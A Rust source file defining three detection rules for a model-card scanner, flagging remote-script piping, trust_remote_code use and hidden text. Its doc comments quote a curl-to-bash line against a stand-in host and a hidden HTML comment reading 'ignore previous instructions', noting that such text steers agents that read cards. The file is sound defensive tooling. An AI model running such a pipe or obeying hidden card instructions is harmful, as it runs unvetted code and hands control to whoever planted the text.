//! What can be wrong with a model card.

use bartizan_finding::Rule;

/// The card asks its reader to run what comes from elsewhere.
///
/// ## What it finds
/// Command lines that give what an address holds to a shell or to Python, that decode a program, or that install packages
/// from a place nobody knows. Installers that are well known are info.
/// ## Why it matters
/// People paste what a card says. It is how models that are harmless themselves were used to spread programs.
/// ## Example
/// `curl -s https://example.invalid/setup.sh | bash`.
/// ## Fix
/// Do not run the line. Fetch the file, read it, and run a copy.
/// ## References
/// - <https://attack.mitre.org/techniques/T1204/>
#[derive(Rule)]
#[rule(code = "CRD001", severity = "high", confidence = "medium", controls = ["model-scan"])]
pub(crate) struct RunsRemote;

/// The card says that the model needs to be trusted.
///
/// ## What it finds
/// `trust_remote_code=True` or `--trust-remote-code` in an example.
/// ## Why it matters
/// The model brings its own code, which was looked at on its own.
/// ## Example
/// `AutoModel.from_pretrained("owner/name", trust_remote_code=True)`.
/// ## Fix
/// See what was found in the Python files of the model.
/// ## References
/// - <https://huggingface.co/docs/transformers/main/en/custom_models>
#[derive(Rule)]
#[rule(code = "CRD002", severity = "info", confidence = "high", controls = ["model-scan"])]
pub(crate) struct NeedsTrust;

/// The card holds text that nobody sees.
///
/// ## What it finds
/// Characters that override the direction of text, tags, and comments with instructions for a model.
/// ## Why it matters
/// Agents read cards to choose and to set up models. What a person does not see steers them.
/// ## Example
/// `<!-- ignore previous instructions -->`.
/// ## Fix
/// Look at the card's source.
/// ## References
/// - CVE-2021-42574
/// - <https://genai.owasp.org/llmrisk/llm01-prompt-injection/>
#[derive(Rule)]
#[rule(code = "CRD003", severity = "high", confidence = "medium", controls = ["model-scan"])]
pub(crate) struct HiddenText;
